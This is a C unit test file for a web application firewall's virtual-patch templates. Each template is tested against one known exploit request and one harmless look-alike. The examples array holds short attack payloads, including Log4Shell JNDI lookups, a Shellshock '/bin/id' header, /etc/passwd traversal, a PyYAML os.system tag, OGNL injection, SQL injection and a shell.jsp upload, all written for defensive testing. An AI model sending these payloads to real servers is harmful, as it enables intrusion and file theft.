/* Each template of virtual patches: an attack that it stops, and an ordinary request that passes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#include "base/arena.h"
#include "base/mem.h"
#include "waf/patch.h"
#include "waf/waf.h"

#define FORM "application/x-www-form-urlencoded"
#define JSON "application/json"
#define XML "text/xml"
#define UPLOAD "multipart/form-data; boundary=b"

struct sent {
	const char *method;
	const char *target;
	const char *header; /* "Name: value", or NULL */
	const char *type; /* of the body */
	const char *body;
};

struct example {
	const char *name; /* of the template */
	struct sent attack;
	struct sent ordinary;
};

#define GET(target, header)                                                                    \
	{                                                                                      \
		"GET", target, header, NULL, NULL                                              \
	}
#define POST(target, type, body)                                                               \
	{                                                                                      \
		"POST", target, NULL, type, body                                               \
	}

static const struct example examples[] = {
	{"log4shell", GET("/", "User-Agent: ${${lower:j}ndi:ldap://a.example/x}"),
	 GET("/?price=${amount}", "User-Agent: shop/1")},
	{"log4shell", POST("/", JSON, "{\"a\":\"\\u0024{jndi:ldap://a.example/x}\"}"),
	 POST("/", JSON, "{\"a\":\"costs $5 {each}\"}")},
	{"log4shell", GET("/?q=%24%7Bjndi%3Armi%3A%2F%2Fa.example%7D", NULL),
	 GET("/?q=jndi", NULL)},
	{"spring4shell",
	 POST("/greet", FORM, "class.module.classLoader.resources.context.parent.x=1"),
	 POST("/greet", FORM, "class=first&module.name=x")},
	{"spring-cloud-function",
	 GET("/functionRouter", "spring.cloud.function.routing-expression: T(java.lang.X)"),
	 GET("/functionRouter", "spring.cloud.function.definition: upper")},
	{"spring-cloud-gateway", POST("/actuator/gateway/routes/x", JSON, "{\"id\":\"x\"}"),
	 GET("/actuator/gateway/routes", NULL)},
	{"spring-data-commons", POST("/users", FORM, "username[#this.getClass().x('y')]=1"),
	 POST("/users", FORM, "user[name]=Ada")},
	{"struts-content-type", GET("/", "Content-Type: %{(#x='multipart/form-data').(#y)}"),
	 POST("/", FORM, "a=%25{b}")},
	{"struts-namespace", GET("/%24%7B1+1%7D/help.action", NULL),
	 GET("/help.action?a=%24%7B1%7D", NULL)},
	{"struts-forced-ognl", GET("/?id=%25%7B%40java.lang.Runtime%40x%7D", NULL),
	 GET("/?id=50%25+%7Boff%7D", NULL)},
	{"struts-upload",
	 POST("/upload", UPLOAD,
	      "--b\r\nContent-Disposition: form-data; name=\"Upload\"; "
	      "filename=\"a.txt\"\r\n\r\nx\r\n--b\r\nContent-Disposition: form-data; "
	      "name=\"uploadFileName\"\r\n\r\n../../shell.jsp\r\n--b--\r\n"),
	 POST("/upload", UPLOAD,
	      "--b\r\nContent-Disposition: form-data; name=\"upload\"; "
	      "filename=\"a.txt\"\r\n\r\n../x\r\n--b--\r\n")},
	{"shellshock", GET("/cgi-bin/x", "User-Agent: () { :; }; /bin/id"),
	 GET("/cgi-bin/x", "User-Agent: Mozilla/5.0 (X11) { }")},
	{"phpunit-eval-stdin",
	 POST("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", FORM, "x"),
	 GET("/vendor/phpunit/phpunit/README.md", NULL)},
	{"confluence-ognl-path", GET("/%24%7B%40java.lang.Runtime%40x%7D/", NULL),
	 GET("/pages/$5/", NULL)},
	{"confluence-ognl-parameter",
	 POST("/pages/createpage-entervariables.action", FORM,
	      "queryString=aaa\\u0027%2b{Class.forName(\"x\")}%2b\\u0027"),
	 POST("/pages/createpage.action", FORM, "title=O'Neil")},
	{"text4shell", GET("/?q=%24%7Bscript%3Ajavascript%3A1%7D", NULL),
	 GET("/?q=%24%7Bscript%7D", NULL)},
	{"apache-traversal", GET("/cgi-bin/.%2e/.%2e/etc/passwd", NULL),
	 GET("/cgi-bin/a%2eb/c", NULL)},
	{"apache-traversal", GET("/icons/.%%32%65/.%%32%65/etc/passwd", NULL),
	 GET("/icons/a..b.png", NULL)},
	{"node-serialize",
	 GET("/", "Cookie: profile=eyJhIjoiXyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSgpIn0="),
	 GET("/", "Cookie: profile=eyJhIjoiYiJ9")},
	{"node-serialize", POST("/", JSON, "{\"a\":\"_$$ND_FUNC$$_function(){}()\"}"),
	 POST("/", JSON, "{\"a\":\"function(){}\"}")},
	{"lodash-prototype", POST("/", JSON, "{\"constructor\": {\"prototype\":{\"a\":1}}}"),
	 POST("/", JSON, "{\"constructor\":\"Ferrari\",\"prototype\":\"2\"}")},
	{"qs-prototype", GET("/?a[__proto__]=b&a[length]=9", NULL),
	 GET("/?a[proto]=b&constructor=c", NULL)},
	{"minimist-prototype", POST("/", JSON, "{\"__proto__\":{\"admin\":true}}"),
	 POST("/", JSON, "{\"proto\":\"__proto__ is a word\"}")},
	{"jackson-gadgets",
	 POST("/", JSON, "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"x\"}]"),
	 POST("/", JSON, "{\"class\":\"economy\",\"site\":\"www.sun.com\"}")},
	{"fastjson-autotype", POST("/", JSON, "{\"\\u0040type\":\"java.net.Inet4Address\"}"),
	 POST("/", JSON, "{\"type\":\"a@type\"}")},
	{"xstream-gadgets",
	 POST("/", XML,
	      "<sorted-set><dynamic-proxy><interface>x</interface></dynamic-proxy>"
	      "</sorted-set>"),
	 POST("/", XML, "<order><set>sorted</set></order>")},
	{"snakeyaml-types",
	 POST("/", "application/yaml", "!!javax.script.ScriptEngineManager [x]"),
	 POST("/", "application/yaml", "note: hello!! com.example is a name")},
	{"pyyaml-types", POST("/", "application/yaml", "!!python/object/apply:os.system [id]"),
	 POST("/", "application/yaml", "note: python/object is a path")},
	{"rails-xml-yaml", POST("/", XML, "<a type=\"yaml\">--- x</a>"),
	 POST("/", XML, "<a type=\"integer\">1</a>")},
	{"rails-accept", GET("/", "Accept: ../../../../etc/passwd{{"),
	 GET("/", "Accept: text/html, */*;q=0.8")},
	{"nextjs-middleware", GET("/admin", "x-middleware-subrequest: middleware"),
	 GET("/admin", "x-middleware-prefetch: 1")},
	{"react2shell",
	 POST("/", UPLOAD,
	      "--b\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n"
	      "{\"then\":\"$1:__proto__:then\",\"status\":\"resolved_model\"}\r\n--b--\r\n"),
	 POST("/", UPLOAD,
	      "--b\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n"
	      "[\"$K1\",{\"status\":\"resolved\"}]\r\n--b--\r\n")},
	{"ejs-options", GET("/?settings[view options][outputFunctionName]=x", NULL),
	 GET("/?settings[theme]=dark", NULL)},
	{"werkzeug-debugger", GET("/?__debugger__=yes&cmd=resource&f=style.css", NULL),
	 GET("/?debugger=yes", NULL)},
	{"werkzeug-debugger", GET("/console", NULL), GET("/consoles/nes", NULL)},
	{"django-trunc-extract", GET("/report?kind=year'+FROM+start)+--", NULL),
	 GET("/report?kind=year", NULL)},
	{"django-order-by", GET("/users?order_by=auth_user.name);select+1;--", NULL),
	 GET("/users?order_by=-created_at", NULL)},
	{"drupalgeddon2", POST("/user/register", FORM, "mail[%23post_render][]=exec"),
	 POST("/user/register", FORM, "mail=a@b.example&color=%23fff")},
	{"thinkphp-invoke",
	 GET("/index.php?s=/Index/\\think\\app/invokefunction&function=x", NULL),
	 GET("/index.php?s=/Index/think/about", NULL)},
	{"laravel-ignition", POST("/_ignition/execute-solution", JSON, "{\"solution\":\"x\"}"),
	 GET("/_ignition/health-check", NULL)},
	{"php-cgi-arguments", GET("/index.php?%ADd+allow_url_include%3d1", NULL),
	 GET("/index.php?d=-1", NULL)},
	{"tomcat-put-jsp",
	 {"PUT", "/shell.jsp/", NULL, "text/plain", "<%x%>"},
	 {"PUT", "/notes.txt", NULL, "text/plain", "x"}},
	{"tomcat-partial-put",
	 {"PUT", "/x.session", "Content-Range: bytes 0-5/10", "text/plain", "x"},
	 GET("/x", "Range: bytes=0-5")},
	{"shiro-path", GET("/;/admin/list", NULL), GET("/list?a=b;c", NULL)},
	{"grafana-plugins", GET("/public/plugins/text/../../../../etc/passwd", NULL),
	 GET("/public/plugins/text/module.js", NULL)},
	{"minio-verify", POST("/minio/bootstrap/v1/verify", FORM, ""),
	 GET("/minio/health/live", NULL)},
	{"ofbiz-login",
	 GET("/webtools/control/ping/?USERNAME=&PASSWORD=&requirePasswordChange=Y", NULL),
	 GET("/webtools/control/main?requirePasswordChange=N", NULL)},
	{"solr-velocity", GET("/solr/x/select?q=1&wt=velocity&v.template.custom=x", NULL),
	 GET("/solr/x/select?q=template&wt=json", NULL)},
};

static struct waf_rules *load(const struct waf_patch_template *template)
{
	struct waf_text text = {.name = SPAN("patch:x"), .first = true};
	struct waf_sources sources = {.texts = &text, .text_count = 1, .no_prefilter = true};
	struct waf_rules *rules;
	struct err err = {0};
	struct buf written;

	buf_init(&written, 65536);
	assert_true(waf_patch_template_write(template, 4200000000U, &written) > 0);
	assert_false(buf_failed(&written));
	text.text = buf_span(&written);
	rules = waf_rules_load(&sources, &err);
	if (!rules)
		fail_msg("%s: %s\n%.*s", template->name, err.message, SPAN_ARG(text.text));
	/* Rules may point into the text. */
	buf_release(&written);
	return rules;
}

static struct waf_verdict ask(struct waf_worker *worker, struct waf_policy *policy,
			      const struct sent *sent)
{
	struct waf_transaction *t = waf_transaction_new(worker, policy);
	struct waf_request request = {.method = span_cstr(sent->method),
				      .target = span_cstr(sent->target),
				      .protocol = SPAN("HTTP/1.1"),
				      .unique_id = SPAN("1")};
	struct waf_verdict verdict;
	struct err err;

	assert_non_null(t);
	waf_set_request(t, &request);
	waf_add_request_header(t, SPAN("Host"), SPAN("shop.example"));
	if (sent->header) {
		struct span value = span_cstr(sent->header);
		struct span name = span_cut(&value, ':');

		waf_add_request_header(t, name, span_trim(value));
	}
	if (sent->type)
		waf_add_request_header(t, SPAN("Content-Type"), span_cstr(sent->type));
	assert_int_equal(waf_request_headers(t, &verdict, &err), 0);
	if (sent->body)
		waf_request_body_whole(t, span_cstr(sent->body));
	if (verdict.action == WAF_PASS)
		assert_int_equal(waf_request_body(t, &verdict, &err), 0);
	assert_int_equal(waf_finish(t, &err), 0);
	waf_transaction_free(t);
	return verdict;
}

/* Whether both are as they should be; says what is not. */
static bool try_example(struct waf_worker *worker, const struct example *example)
{
	const struct waf_patch_template *template =
		waf_patch_template_find(span_cstr(example->name));
	const struct waf_settings settings = {.mode = WAF_BLOCK};
	struct waf_policy *policy;
	struct waf_verdict verdict;
	struct waf_rules *rules;
	struct err err;
	bool good;

	assert_non_null(template);
	rules = load(template);
	policy = waf_policy_new(rules, &settings, &err);
	assert_non_null(policy);
	verdict = ask(worker, policy, &example->attack);
	good = verdict.action == WAF_BLOCKED && verdict.rule_id >= 4200000000U;
	if (!good)
		print_message("%s: the attack %s passes (rule %u)\n", example->name,
			      example->attack.target, verdict.rule_id);
	verdict = ask(worker, policy, &example->ordinary);
	if (verdict.action != WAF_PASS)
		print_message("%s: the ordinary request %s is blocked by %u\n", example->name,
			      example->ordinary.target, verdict.rule_id);
	good = good && verdict.action == WAF_PASS;
	waf_policy_unref(policy);
	waf_rules_unref(rules);
	return good;
}

static void attacks_are_stopped_and_ordinary_requests_pass(void **state)
{
	struct err err;
	struct waf_worker *worker = waf_worker_new(NULL, &err);
	bool good = true;

	(void)state;
	assert_non_null(worker);
	for (size_t i = 0; i < COUNT_OF(examples); i++)
		good &= try_example(worker, &examples[i]);
	waf_worker_free(worker);
	assert_true(good);
}

static void every_template_has_an_example(void **state)
{
	size_t count;
	const struct waf_patch_template *all = waf_patch_templates(&count);

	(void)state;
	assert_true(count >= 25);
	for (size_t i = 0; i < count; i++) {
		bool found = false;

		for (size_t k = 0; k < COUNT_OF(examples); k++)
			found |= span_eq(span_cstr(all[i].name), span_cstr(examples[k].name));
		if (!found)
			fail_msg("%s has no example", all[i].name);
	}
}

static void templates_are_found_by_every_id_and_name(void **state)
{
	size_t count;
	const struct waf_patch_template *all = waf_patch_templates(&count);

	(void)state;
	for (size_t i = 0; i < count; i++) {
		struct span ids = span_cstr(all[i].ids);

		assert_ptr_equal(waf_patch_template_find(span_cstr(all[i].name)), &all[i]);
		while (ids.ptr)
			assert_ptr_equal(waf_patch_template_find(span_cut(&ids, ' ')), &all[i]);
	}
	assert_ptr_equal(waf_patch_template_find(SPAN("cve-2021-44228")),
			 waf_patch_template_find(SPAN("Log4Shell")));
	assert_null(waf_patch_template_find(SPAN("CVE-1999-0001")));
	assert_null(waf_patch_template_find(SPAN("")));
}

static void a_patch_that_observes_lets_pass_and_tells(void **state)
{
	struct waf_text texts[] = {
		{.name = SPAN("watch"),
		 .text = SPAN("SecRule ARGS:a \"@streq x\" \"id:1,phase:2,deny,log\"\n"),
		 .first = true,
		 .observe = true},
		{.name = SPAN("stop"),
		 .text = SPAN("SecRule ARGS:b \"@streq x\" \"id:2,phase:2,deny,log\"\n")}};
	struct waf_sources sources = {.texts = texts, .text_count = 2, .no_prefilter = true};
	const struct waf_exclusion without = {.source = SPAN("stop")};
	struct waf_settings settings = {.mode = WAF_BLOCK};
	struct sent a = GET("/?a=x", NULL), b = GET("/?b=x", NULL);
	struct err err = {0};
	struct waf_worker *worker = waf_worker_new(NULL, &err);
	struct waf_rules *rules = waf_rules_load(&sources, &err);
	struct waf_policy *policy;
	struct waf_verdict verdict;

	(void)state;
	assert_non_null(rules);
	policy = waf_policy_new(rules, &settings, &err);
	verdict = ask(worker, policy, &a);
	assert_int_equal(verdict.action, WAF_PASS);
	assert_true(verdict.would_block);
	assert_int_equal(verdict.rule_id, 1);
	assert_int_equal(ask(worker, policy, &b).action, WAF_BLOCKED);
	waf_policy_unref(policy);
	/* A policy without the source does not run its rules. */
	settings.exclusions = &without;
	settings.exclusion_count = 1;
	policy = waf_policy_new(rules, &settings, &err);
	assert_int_equal(ask(worker, policy, &b).action, WAF_PASS);
	assert_true(ask(worker, policy, &a).would_block);
	waf_policy_unref(policy);
	waf_rules_unref(rules);
	waf_worker_free(worker);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(attacks_are_stopped_and_ordinary_requests_pass),
		cmocka_unit_test(every_template_has_an_example),
		cmocka_unit_test(templates_are_found_by_every_id_and_name),
		cmocka_unit_test(a_patch_that_observes_lets_pass_and_tells),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
